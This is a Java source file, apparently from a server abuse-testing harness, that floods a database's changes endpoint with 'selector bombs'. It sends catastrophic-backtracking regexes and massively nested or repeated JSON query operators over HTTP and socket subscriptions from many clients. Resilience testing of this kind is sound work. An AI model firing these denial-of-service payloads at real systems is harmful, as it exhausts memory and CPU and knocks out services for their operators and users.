package lectus.abuse;

import java.util.List;
import java.util.Random;

/** Small selectors that take much memory or time, over HTTP and over sockets. */
record SelectorBombs(int clients) implements Attack {
  private static final List<String> BOMBS =
      List.of(
          regex("(a{999}){9}"),
          regex("(a?){999}b"),
          regex("^([0-9a-z]*)*$"),
          regex("(".repeat(5_000) + ")".repeat(5_000)),
          regex(".*".repeat(400) + "x"),
          "{\"$or\":[" + (regex("(a{999}){9}") + ",").repeat(3_000) + "{}]}",
          "{\"" + "a.".repeat(100_000) + "a\":1}",
          "{\"$or\":[" + "{\"a\":{\"$gt\":1}},".repeat(50_000) + "{}]}",
          "{\"$not\":".repeat(450) + "{}" + "}".repeat(450),
          "{\"a\":{\"$in\":[" + "\"xxxxxxxx\",".repeat(100_000) + "1]}}");

  /** The longest message that a socket takes. */
  private static final int LONGEST_MESSAGE = 250_000;

  private static final int SUBSCRIPTIONS = 20;

  private static String regex(String pattern) {
    return "{\"text\":{\"$regex\":\"" + pattern + "\"}}";
  }

  @Override
  public void run(Target target, Random dice, Deadline deadline) {
    try (Crowd crowd = new Crowd(clients, () -> armed(target, dice))) {
      while (!deadline.isOver()) {
        crowd.turn(64 << 10);
        // A client that was answered begins anew.
        crowd.forEach(
            line -> {
              if (line.read() > 0 && dice.nextInt(20) == 0) {
                line.close();
              }
            });
        deadline.pause(50);
      }
    }
  }

  private static Line armed(Target target, Random dice) {
    String bomb = BOMBS.get(dice.nextInt(BOMBS.size()));
    if (bomb.length() > LONGEST_MESSAGE || dice.nextBoolean()) {
      String body = "{\"selector\":" + bomb + "}";
      return Line.to(target, 0).say(Wire.request("POST", "/large/_changes?filter=_selector", body));
    }
    Line line = Line.to(target, 0).say(Wire.upgrade("/_changes"));
    for (int i = 0; i < SUBSCRIPTIONS; i++) {
      line.say(Wire.subscribe("s" + i, "large", ",\"selector\":" + bomb));
    }
    return line;
  }
}
